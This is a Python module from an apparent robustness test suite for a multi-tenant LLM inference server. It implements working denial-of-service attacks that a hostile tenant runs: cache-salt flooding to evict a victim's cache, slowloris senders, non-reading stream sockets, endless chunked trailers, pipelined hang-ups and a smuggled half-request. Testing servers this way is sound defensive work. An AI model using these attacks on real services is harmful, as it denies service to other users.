"""Attacks by a tenant that wants the machine for itself: salts, queues, readers that do not read, odd connections."""

from __future__ import annotations

import asyncio
import json
import socket
import time
from contextlib import suppress

from .client import Answer, Client, read_head
from .measure import Attack, Site, body
from .parsing import COMPLETIONS, said

_STORY = "The quick brown fox jumps over the lazy dog and runs along the river into the dark forest. "


async def salted_handles(site: Site) -> str:
    """Handles under one salt after the other; as many as are kept."""
    answers = []
    for number in range(120):
        asked = {"prompt": f"{number} " + _STORY * 2}
        answers.append(await site.attacker.post(f"/v1/kv?cache_salt=salt-{number}", asked))
    kept = sum(answer.status == 200 for answer in answers)
    site.notes.append(f"{kept} handles with a limit of 4")
    return said(answers)


async def salted_flush(site: Site) -> str:
    """Whether the victim's prefix is still known after many salted requests."""
    victim = Client(site.server.host, site.server.port, site.victim.key)
    asked = body(_STORY * 48, 1)
    await victim.post(COMPLETIONS, asked)
    before = _cached(await victim.post(COMPLETIONS, asked))
    answers: list[Answer] = []
    until_s = time.monotonic() + 2 * site.seconds

    async def salt(numbers: range) -> None:
        for number in numbers:
            if time.monotonic() < until_s:
                salted = body(f"{number} " + _STORY * 8, 1, cache_salt=f"salt-{number}")
                answers.append(await site.attacker.post(COMPLETIONS, salted))

    await asyncio.gather(*(salt(range(first, 220, 4)) for first in range(4)))
    after = _cached(await victim.post(COMPLETIONS, asked))
    victim.close()
    site.notes.append(f"cached tokens of the victim {before}, then {after}")
    return said(answers)


def _cached(answer: Answer) -> int:
    usage = answer.json.get("usage") or {}
    return int((usage.get("prompt_tokens_details") or {}).get("cached_tokens", 0))


async def many_prompts(site: Site) -> str:
    asked = body("", 64)
    asked["prompt"] = [f"Prompt {number}: " + _STORY for number in range(1024)]
    site.attacker.timeout_s = site.seconds
    return said([await site.attacker.post(COMPLETIONS, asked)])


async def silent_readers(site: Site, count: int = 500, tokens: int = 1024) -> str:
    """Connections with a small buffer that ask for a long stream and never read it."""
    loop, sockets, refused = asyncio.get_running_loop(), [], 0
    for number in range(count):
        own = socket.socket()
        own.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        own.setblocking(False)
        sockets.append(own)
        content = json.dumps(body(f"Silent reader {number} wants a story. Once", tokens, stream=True)).encode()
        try:
            await loop.sock_connect(own, (site.server.host, site.server.port))
            await loop.sock_sendall(own, site.attacker.head("POST", COMPLETIONS, len(content)) + content)
        except OSError:
            refused += 1
    await asyncio.sleep(site.seconds)
    for own in sockets:
        own.close()
    return f"{count - refused} taken"


async def slow_senders(site: Site, count: int = 100) -> str:
    """Connections that send their request a byte a second."""
    until_s, statuses = time.monotonic() + site.seconds, []

    async def send() -> None:
        while time.monotonic() < until_s:
            with suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await site.attacker.open()
                for byte in site.attacker.head("POST", COMPLETIONS, 100):
                    writer.write(bytes([byte]))
                    await asyncio.sleep(1)
                    if reader.at_eof() or time.monotonic() > until_s:
                        break
                if not reader.at_eof() and time.monotonic() < until_s:
                    statuses.append((await read_head(reader))[0])
                writer.close()

    await asyncio.gather(*(send() for _ in range(count)))
    return f"{count} connections"


async def trailers(site: Site) -> str:
    """Trailers without end behind a chunked body."""
    reader, writer = await site.attacker.open()
    lines = ["POST /v1/completions HTTP/1.1", f"Host: {site.server.host}:{site.server.port}"]
    lines += [f"Authorization: Bearer {site.attacker.key}", "Content-Type: application/json"]
    writer.write("\r\n".join([*lines, "Transfer-Encoding: chunked", "", ""]).encode() + b"2\r\n{}\r\n0\r\n")
    until_s, sent, line = time.monotonic() + site.seconds, 0, b"X-Trailer: " + b"x" * 4000 + b"\r\n"
    try:
        while time.monotonic() < until_s:
            writer.write(line * 64)
            sent += 64 * len(line)
            await asyncio.wait_for(writer.drain(), 10)
            if reader.at_eof() or writer.is_closing():
                break
        status = (await asyncio.wait_for(read_head(reader), 5))[0]
    except (OSError, TimeoutError, asyncio.IncompleteReadError):
        status = 0
    writer.transport.abort()
    return f"{status or 'cut off'} after {sent / (1 << 20):.1f} MiB"


async def pipelined(site: Site, connections: int = 8, each: int = 24) -> str:
    """Long requests one behind the other on a connection that hangs up at once."""
    content = json.dumps(body("A long story about a fox. Once", 1024)).encode()
    request = site.attacker.head("POST", COMPLETIONS, len(content)) + content
    for _ in range(connections):
        _reader, writer = await site.attacker.open()
        writer.write(request * each)
        await writer.drain()
        await asyncio.sleep(0.3)
        writer.transport.abort()
    began_s = time.monotonic()
    while time.monotonic() < began_s + site.seconds:
        state = (await site.attacker.get("/v1/kv/state")).json
        if not state.get("samples"):
            return f"nothing runs {time.monotonic() - began_s:.1f} s after the hang-up"
        await asyncio.sleep(0.25)
    return "still running at the end"


async def pollers(site: Site, count: int = 8) -> str:
    """State asked for as fast as it comes, while memory holds a lot to tell of."""
    for number in range(12):
        await site.attacker.post(COMPLETIONS, body(f"{number} " + _STORY * 8, 1))
    until_s, answers = time.monotonic() + site.seconds, []

    async def poll() -> None:
        while time.monotonic() < until_s:
            answers.append(await site.attacker.get("/v1/kv/state"))

    await asyncio.gather(*(poll() for _ in range(count)))
    return said(answers)


async def late_408(site: Site) -> str:
    """Half of a second request behind a stream that takes longer than headers may."""
    content = json.dumps(body("A long story. Once", 1500, stream=True, n=8)).encode()
    reader, writer = await site.attacker.open()
    writer.write(site.attacker.head("POST", COMPLETIONS, len(content)) + content + b"GET /health HTTP/1.1\r\nHo")
    found, until_s = b"", time.monotonic() + min(site.seconds, 25)
    with suppress(OSError, TimeoutError):
        while time.monotonic() < until_s:
            piece = await asyncio.wait_for(reader.read(1 << 16), until_s - time.monotonic())
            if not piece:
                break
            found += piece
    writer.transport.abort()
    heads = [at for at in range(len(found)) if found.startswith(b"HTTP/1.1 ", at)]
    inside = [at for at in heads[1:] if not found[:at].endswith(b"0\r\n\r\n")]
    return f"{len(found) >> 10} KiB of stream, {len(inside)} answers inside it"


ATTACKS = (
    Attack("salted_handles", "6", "120 handles under as many salts", salted_handles, ("--max-handles", "4")),
    Attack("salted_flush", "6", "220 salted prompts", salted_flush),
    Attack("many_prompts", "7", "1,024 prompts in one request", many_prompts),
    Attack("silent_readers", "7", "500 streams that nobody reads", silent_readers),
    Attack("slow_senders", "7", "100 senders of a byte a second", slow_senders),
    Attack("trailers", "9", "trailers without end", trailers),
    Attack("pipelined", "9", "192 pipelined requests, hung up", pipelined),
    Attack("pollers", "9", "8 pollers of /v1/kv/state", pollers),
    Attack("late_408", "12", "half a request behind a stream", late_408),
)
